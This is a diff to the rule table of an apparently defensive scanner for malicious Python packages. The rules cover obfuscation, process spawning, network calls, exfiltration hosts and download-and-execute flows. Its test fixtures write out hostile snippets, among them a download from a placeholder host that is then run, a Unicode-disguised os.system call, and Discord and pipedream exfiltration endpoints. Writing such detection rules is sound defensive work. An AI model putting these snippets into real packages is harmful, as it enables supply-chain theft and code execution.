@@ -105,9 +105,14 @@ RULES: tuple[Rule, ...] = (
                      " + copyright.__str__()[4 << 0])\ns = oct.__str__()[1] + hex.__str__()[2]"
                      "\n", "setup.py"),),
          valid=(_x("s = str(oct)\n"),)),
+    Rule("python.obfuscation.unicode-identifiers", "obfuscation", H, CH,
+         "identifiers written in look-alike Unicode letters (𝗿𝗲𝙦𝘂𝙚𝘀𝘁𝘀 is requests to Python) "
+         "to slip past text search", threats=(3,),
+         invalid=(_x("import os\n\U0001d428\U0001d42c.system('id')\n"),),
+         valid=(_x("NAME = 'café'\n"),)),
     Rule("python.obfuscation.commercial", "obfuscation", M, CH,
          "a commercial or public obfuscator's runtime (PyArmor, pyobfuscate, BlankOBF): the "
-         "real code cannot be reviewed", threats=(9,),
+         "real code cannot be reviewed", strong=(H, CH), threats=(9,),
          invalid=(_x("from pytransform import pyarmor_runtime\npyarmor_runtime()\n"
                      "__pyarmor__(__name__, __file__, b'PYARMOR')\n"),),
          valid=(_x("# an obfuscator is not used here\nx = 'armor'\n"),)),
@@ -152,7 +157,7 @@ RULES: tuple[Rule, ...] = (
                    ", start_new_session=True)\n"),)),
     Rule("python.process.python-c", "execution", M, CM,
          "a new interpreter is started with code on its command line (sys.executable -c); "
-         "the code is analysed too", strong=(H, CM), threats=(1, 2),
+         "the code is analysed too", strong=(H, CM), threats=(1, 2), quiet_at_runtime=True,
          invalid=(_x("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
                      "'import os; print(1)'])\n"),),
          valid=(_x("import subprocess, sys\ndef probe():\n    return subprocess.run("
@@ -172,12 +177,13 @@ RULES: tuple[Rule, ...] = (
          valid=(_x("import socket\ndef ping(h):\n    s = socket.create_connection((h, 80))\n"
                    "    s.close()\n"),)),
     Rule("python.network.http", "network", L, CM,
-         "an HTTP/FTP/SMTP connection is made", runtime_drop=0,
+         "an HTTP/FTP/SMTP connection is made", runtime_drop=0, quiet_at_runtime=True,
          by_context={INSTALL: (H, CM), STARTUP: (H, CM), IMPORT: (M, CM)}, threats=(4, 12),
          invalid=(_x("import requests\nrequests.get('https://example.invalid/ping')\n",
                      "setup.py"),),
          valid=(_x("import requests\ndef get(url):\n    return requests.get(url)\n"),)),
     Rule("python.network.socket", "network", L, CM, "a raw socket is opened", runtime_drop=0,
+         quiet_at_runtime=True,
          by_context={INSTALL: (H, CM), STARTUP: (H, CM), IMPORT: (M, CM)}, threats=(14,),
          invalid=(_x("import socket\ns = socket.socket()\ns.connect(('203.0.113.9', 9))\n",
                      "setup.py"),),
@@ -192,13 +198,14 @@ RULES: tuple[Rule, ...] = (
          valid=(_x("import socket\nLOCAL = socket.gethostbyname('localhost')\n"),)),
     Rule("python.network.messenger", "exfiltration", H, CH,
          "a Discord/Telegram/Slack bot or webhook endpoint: the usual stealer drop box",
-         threats=(10,),
+         threats=(10,), runtime_drop=0,
          invalid=(_x("URL = 'https://discord.com/api/webhooks/1/abc'\n"),
                   _x("BOT = 'https://api.telegram.org/bot123:abc/sendMessage'\n")),
          valid=(_x("DOCS = 'https://discord.com/invite/example'\n"),)),
-    Rule("python.network.request-catcher", "exfiltration", H, CM,
+    Rule("python.network.request-catcher", "exfiltration", M, CM,
          "a request-catcher or tunnel host (webhook.site, pipedream, oastify, ngrok...) used "
-         "by dependency-confusion probes and exfiltration", threats=(12, 16),
+         "by dependency-confusion probes and exfiltration", strong=(H, CH), runtime_drop=0,
+         threats=(12, 16),
          invalid=(_x("H = 'https://abc.m.pipedream.net'\n"),),
          valid=(_x("H = 'https://pypi.org/simple/'\n"),)),
     Rule("python.network.file-host", "network", M, CM,
@@ -248,6 +255,7 @@ RULES: tuple[Rule, ...] = (
                    "'https://e.invalid', headers={'UA': platform.system()})\n"),)),
     Rule("python.flow.download-execute", "execution", H, CM,
          "content is downloaded, written to disk and run", strong=(C, CH), threats=(5,),
+         runtime_drop=0,
          invalid=(_x("import os, urllib.request, subprocess\n"
                      "urllib.request.urlretrieve('https://example.invalid/m', '/tmp/m')\n"
                      "os.chmod('/tmp/m', 0o755)\nsubprocess.Popen(['/tmp/m'])\n"),),
